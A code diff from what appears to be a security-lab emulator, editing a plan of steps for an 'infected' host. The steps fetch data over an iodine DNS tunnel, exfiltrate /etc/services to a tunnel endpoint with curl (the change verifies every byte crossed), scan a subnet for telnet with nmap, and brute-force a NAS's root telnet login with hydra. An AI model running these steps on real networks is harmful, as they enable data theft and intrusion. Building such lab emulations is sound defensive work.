@@ -84,8 +84,12 @@ function plan(state: LabState, seconds: number): Record<string, Step[]> {
     ],
     infected: [
       { action: 'fetch over the iodine DNS tunnel', argv: ['curl', '-s', '-f', '--max-time', '30', '-o', '/dev/null', 'http://10.99.0.1:8080/secret.txt'], timeoutMs: 40_000 },
-      // the upload is answered 404 by the far end; what matters is that it crossed the tunnel
-      { action: 'exfiltrate a file over the DNS tunnel', argv: ['curl', '-s', '--max-time', '60', '-o', '/dev/null', '--data-binary', '@/etc/services', 'http://10.99.0.1:8080/upload'], timeoutMs: 70_000 },
+      // the far end reads the whole body and says how many bytes it got: the step fails unless all of them crossed
+      {
+        action: 'exfiltrate a file over the DNS tunnel',
+        argv: ['sh', '-c', 'n=$(wc -c < /etc/services); curl -s -f --max-time 60 --data-binary @/etc/services http://10.99.0.1:8080/cgi-bin/upload | grep -qx "received $n bytes"'],
+        timeoutMs: 70_000,
+      },
       { action: 'scan neighbours on telnet 23/2323', argv: ['nmap', '-n', '-sT', '-Pn', '-T5', '--max-retries', '0', '--host-timeout', '4s', '-p', '23,2323', '192.168.77.2-99'], timeoutMs: 120_000 },
       { action: 'telnet login attempts against the nas', argv: ['hydra', '-l', 'root', '-P', wordlist, '-t', '2', '-w', '10', '-f', 'telnet://192.168.77.30'], okCodes: [0, 255], timeoutMs: 120_000 },
     ],
